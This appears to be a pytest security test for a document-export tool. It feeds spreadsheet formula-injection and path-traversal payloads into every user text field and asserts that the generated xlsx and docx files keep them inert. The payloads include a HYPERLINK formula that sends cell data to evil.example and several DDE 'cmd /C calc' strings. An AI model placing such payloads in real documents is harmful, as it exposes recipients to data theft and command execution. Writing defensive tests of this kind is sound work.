"""No text of any user becomes a formula, a link, a field or a path, in any kind of document."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO
from itertools import cycle
from pathlib import Path, PurePosixPath
from typing import Any

import openpyxl
import pytest
from lxml import etree  # type: ignore[import-untyped]

from perfeval.exchange.book import Material
from perfeval.exchange.filenames import MAX_BYTES
from perfeval.exchange.outgoing import Wanted, send, send_public
from perfeval.exchange.template import fill
from perfeval.exchange.writer import TRIGGERS
from perfeval.scoring.engine import score_session
from perfeval.session.model import Session

TRAPS = (
    '=HYPERLINK("http://evil.example/?"&A1,"看")',
    "=cmd|'/C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3+DDE("cmd";"/C calc";"x")',
    '@SUM(A1:A9)*WEBSERVICE("http://evil.example")',
    "\t=1+1",
    "../../CON/aux.xlsx<script>{{ x }}{% for %}",
)
_KEPT_AS_IS = {
    *("id", "format", "year", "money_unit", "set", "group", "points", "stage", "verdict", "sha256"),
    *("size", "weight_scheme", "fund_order", "row_order", "project_order", "score", "manual_score"),
    *("level_score", "budget", "initial", "executed", "numerator", "denominator", "unit", "round"),
    *("accepted", "qualitative", "elements", "tier_rates", "pinned", "paths", "when", "on"),
    *("state", "deduction", "elected", "claimed", "actual", "target", "level"),
}
"""What the engine reads, or the model takes only certain values for; every other text is a trap."""


def _trapped(part: Any, traps: Iterator[str], name: str = "") -> Any:
    if name in _KEPT_AS_IS and not (name == "unit" and isinstance(part, dict)):
        return part
    if isinstance(part, dict):
        return {key: _trapped(value, traps, key) for key, value in part.items()}
    if isinstance(part, list):
        return [_trapped(value, traps, name) for value in part]
    if not isinstance(part, str) or (name in ("excluded", "not_applicable") and not part):
        return part
    return next(traps)


def _session(full: Session, *traps: str) -> Session:
    """Return a session each of whose texts is the next of ``traps``."""
    data = full.model_dump(mode="json")
    data["texts"] = {"主要职责": "x", "改进措施": "x", "projects/p1/改进措施": "x"}
    data["remedies"] = {"department/answers/B3/扣分": {"measure": "x", "note": "x", "owner": "x"}}
    data["waivers"] = [{"check": "L27", "path": "department", "reason": "x"}]
    trapped = _trapped(data, cycle(traps))
    trapped["waivers"][0] |= {"check": "L27", "path": "department"}
    for key, answer in trapped["department"]["answers"].items():
        answer["elements"] = data["department"]["answers"][key]["elements"]
    return Session.model_validate(trapped)


def _members(name: str, data: bytes) -> dict[str, bytes]:
    """Return every part of a document, those of packed documents too."""
    found: dict[str, bytes] = {}
    with zipfile.ZipFile(BytesIO(data)) as archive:
        for info in archive.infolist():
            part = archive.read(info)
            found[f"{name}!{info.filename}"] = part
            if info.filename.endswith((".xlsx", ".docx")):
                found |= _members(f"{name}!{info.filename}", part)
    return found


def _documents(session: Session, tools: Any, folder: Path) -> dict[str, bytes]:
    """Return every kind of document of a session, by its file name."""
    material = Material(session, score_session(session, tools.find), tools.find)
    files = [*send(material, folder, Wanted()).files]
    files += send(material, folder, Wanted(("公开说明", "上报材料包"))).files
    form = openpyxl.Workbook()
    sheet: Any = form.active
    sheet.append(["项目名称", ""])
    sheet.append(["一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分"])
    sheet.append(["产出指标", "数量指标", "", "", "", "", ""])
    form.save(folder / "form.xlsx")
    paths = [one.path for one in files]
    paths += [one.path for one in fill(material, folder / "form.xlsx", folder / "filled")]
    assert all(path.resolve().is_relative_to(folder.resolve()) for path in paths)
    for path in paths:
        assert len(path.stem.encode()) <= MAX_BYTES + 20
        assert not re.match(r"(?i)(con|aux|nul|prn)(\.|$)", path.name)
    return {path.name: path.read_bytes() for path in paths}


def test_no_text_becomes_anything_but_text(full: Session, tools: Any, tmp_path: Path) -> None:
    """The traps go round through the texts of one session."""
    _prove(_session(full, *TRAPS), tools, tmp_path)


@pytest.mark.soak
@pytest.mark.parametrize("trap", TRAPS)
def test_each_trap_in_every_text_stays_text(
    trap: str, full: Session, tools: Any, tmp_path: Path
) -> None:
    _prove(_session(full, trap), tools, tmp_path)


def _prove(session: Session, tools: Any, folder: Path) -> None:
    parts: dict[str, bytes] = {}
    for name, data in _documents(session, tools, folder).items():
        parts |= _members(name, data)
        if name.endswith(".xlsx"):
            _texts_are_texts(data)
    assert len(parts) > 100
    for name, data in parts.items():
        assert not PurePosixPath(name.rpartition("!")[2]).is_absolute()
        assert ".." not in PurePosixPath(name.rpartition("!")[2]).parts
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(data)
        assert b'TargetMode="External"' not in data, name
        for element in root.iter():
            kind = etree.QName(element).localname if isinstance(element.tag, str) else ""
            if kind in ("instrText", "fldSimple", "ddeLink", "oleLink", "externalReference"):
                told = (element.text or "") + "".join(element.attrib.values())
                assert re.fullmatch(r"\s*(TOC|PAGE|NUMPAGES|PAGEREF|SEQ)\b.*", told), told
            if kind in ("f", "definedName", "formula1", "formula2", "formula"):
                outside = re.sub(r"'(?:[^']|'')*'", "", element.text or "")
                assert not _CODE.search(outside), (name, outside)


_CODE = re.compile(r"HYPERLINK|cmd|DDE|WEBSERVICE|evil|\.\./|=1\+1|A0")


def _texts_are_texts(data: bytes) -> None:
    """A text that begins as a formula does stays one when somebody edits its cell."""
    for sheet in openpyxl.load_workbook(BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None
                if cell.data_type == "s" and str(cell.value)[:1] in TRIGGERS:
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)


def test_the_public_version_is_no_exception(full: Session, tools: Any, tmp_path: Path) -> None:
    trap = TRAPS[0]
    material = Material(full, score_session(full, tools.find), tools.find)
    unit = full.unit.model_copy(update={"name": trap, "department_in_charge": trap})
    session = full.model_copy(update={"unit": unit, "texts": _session(full, trap).texts})
    open_one = replace(material, session=session)
    for one in send_public(open_one, tmp_path, Wanted()).files:
        assert one.path.resolve().is_relative_to(tmp_path.resolve())
        if one.path.suffix == ".xlsx":
            _texts_are_texts(one.path.read_bytes())
        for name, data in _members(one.path.name, one.path.read_bytes()).items():
            assert b'TargetMode="External"' not in data, name
